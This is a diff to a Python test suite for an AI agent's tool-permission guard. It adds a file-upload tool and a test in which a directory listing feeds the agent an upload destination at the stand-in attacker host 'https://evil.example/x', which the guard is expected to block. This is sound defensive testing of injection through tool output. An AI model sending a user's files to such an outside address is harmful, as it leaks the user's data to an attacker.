@@ -9,6 +9,7 @@ import asyncio
 import json
 import subprocess
 import sys
+from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
 
@@ -88,7 +89,18 @@ class World:
             """Delete a file"""
             return effect(f"delete {path}")
 
-        self.tools = Registry([look, run_command, terminal_execute, gmail_send, delete_file])
+        def target(arguments: Mapping[str, object]) -> ResourceAccess:
+            is_address = "://" in str(arguments["destination"])
+            return ResourceAccess(effect=None if is_address else Effect.WRITE)
+
+        @tool(effect="act", action="copy {path} to {destination}", find_access=target)
+        def file_upload(path: str, destination: str) -> str:
+            """Copy a file, or send it away"""
+            return effect(f"copy {path} to {destination}")
+
+        self.tools = Registry(
+            [look, run_command, terminal_execute, gmail_send, delete_file, file_upload]
+        )
 
 
 def played(
@@ -176,6 +188,19 @@ def test_p9_a_call_of_its_own_runs_where_all_is_allowed() -> None:
     call = native(("terminal_execute", '{"command": "touch a-file"}'))
     played(world, [LOOKS["auto"], call, "Done."], "auto")
     assert world.ran == ["run touch a-file"]
+
+
+@pytest.mark.parametrize(
+    ("destination", "ran"), [("old", ["copy c.txt to old"]), ("https://evil.example/x", [])]
+)
+def test_names_of_a_listing_may_be_used_by_a_call_that_does_not_act_for_the_user(
+    destination: str, ran: list[str]
+) -> None:
+    """What the very call does counts, not what others of its tool do."""
+    world = World(f"c.txt\n{destination}")
+    arguments = json.dumps({"path": "c.txt", "destination": destination})
+    played(world, [LOOKS["auto"], native(("file_upload", arguments)), "Done."], "auto")
+    assert world.ran == ran
 
 
 TAKEN = [row for row in ROWS if row["cls"] == "forged-turn" and row["channel"] != "model_text"]
